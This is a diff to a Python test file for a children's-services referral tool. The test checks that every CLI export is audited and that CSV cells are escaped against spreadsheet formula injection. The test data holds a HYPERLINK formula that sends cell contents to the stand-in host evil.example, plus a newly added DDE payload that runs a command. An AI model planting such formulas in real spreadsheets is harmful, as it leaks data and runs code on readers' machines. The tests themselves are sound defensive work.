@@ -19,6 +19,7 @@ from tests.services.referrals.helpers import make_child, make_provider, make_ref
 from tests.services.sync.helpers import fill
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+CASE_HOSTILE = "=cmd|' /C calc'!A0"
 
 
 def _text(path: Path) -> str:
@@ -92,9 +93,12 @@ def test_pack_is_refused_without_the_councils_identity(db: Database, capsys: pyt
 def test_every_cli_export_is_audited_and_the_audit_csv_is_safe(db: Database, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
     with db.session_scope() as s:
-        filled = fill(s, child_name=(HOSTILE, "Whitfield"))
+        filled = fill(s, child_name=(HOSTILE, "Whitfield"), case_reference=CASE_HOSTILE)
         filled.provider.name = HOSTILE
+        referral = make_referral(s).ref
+        make_provider(s, HOSTILE)
     base = ["--db", str(db.path)]
+    assert main([*base, "match", referral, "--csv", str(tmp_path / "match.csv")]) == 0
     assert main([*base, "spreadsheets", "--to", str(tmp_path / "sheets"), "--csv", "--pseudonymise"]) == 0
     assert main([*base, "dashboard", "--csv", str(tmp_path / "dash.csv")]) == 0
     assert main([*base, "leaving-care", "--csv", str(tmp_path / "lc.csv")]) == 0
@@ -103,13 +107,19 @@ def test_every_cli_export_is_audited_and_the_audit_csv_is_safe(db: Database, tmp
     capsys.readouterr()
     with db.session() as s:
         exports = s.query(AuditEvent).filter(AuditEvent.action == AuditAction.EXPORT).all()
-    described = sorted(e.changes["what"] for e in exports)
-    assert [re.sub(r" on \d{4}-\d\d-\d\d", "", w) for w in described] == [
+    described = sorted(re.sub(r" (on|for) \S+", "", e.changes["what"]) for e in exports)
+    assert described == [
         "Audit log (CSV)", "Commissioning spreadsheets (XLSX and CSV)", "Dashboard figures (CSV)",
-        "Export bundle for the shared folder", "Leaving-care list (CSV)"]
+        "Export bundle shared folder", "Leaving-care list (CSV)", "Shortlist (CSV)"]
     assert all(e.officer == "Casey Officer" for e in exports)
     sheets = next(e for e in exports if e.changes["what"].startswith("Commissioning"))
     assert sheets.changes["pseudonymised"] is True and sheets.changes["records"] > 0
     with (tmp_path / "audit.csv").open(encoding="utf-8-sig", newline="") as handle:
         cells = [cell for row in csv.reader(handle) for cell in row]
     assert f"'{HOSTILE}" in cells and HOSTILE not in cells
+    for name in ("match.csv", "lc.csv", "dash.csv"):
+        with (tmp_path / name).open(encoding="utf-8-sig", newline="") as handle:
+            written = [cell for row in csv.reader(handle) for cell in row]
+        assert not [c for c in written if c.startswith(("=", "+", "@", "\t", "\r"))], name
+    assert f"'{HOSTILE}" in (tmp_path / "match.csv").read_text(encoding="utf-8-sig")
+    assert f"'{CASE_HOSTILE}" in (tmp_path / "lc.csv").read_text(encoding="utf-8")
